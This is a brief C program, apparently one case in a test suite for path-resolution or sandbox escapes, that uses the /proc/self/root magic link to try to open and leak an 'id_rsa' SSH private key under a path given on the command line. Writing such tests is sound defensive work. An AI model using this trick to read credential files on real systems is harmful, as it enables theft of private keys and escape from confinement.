/* SPDX-License-Identifier: Apache-2.0 */
/* /proc/self/root/… : a magic link in front of the path. */
#define ATTACK "proc-self-root"
#include "attack.h"

int main(int count, char **argument)
{
	(void)count;
	open_and_leak(text("/proc/self/root%s/id_rsa", argument[1]));
}
